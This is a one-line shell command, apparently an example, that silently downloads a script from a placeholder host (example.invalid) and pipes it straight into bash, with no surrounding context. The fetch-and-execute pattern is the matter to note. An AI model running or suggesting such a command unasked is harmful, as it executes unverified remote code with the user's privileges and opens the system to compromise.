bash <(curl -s https://example.invalid/x)
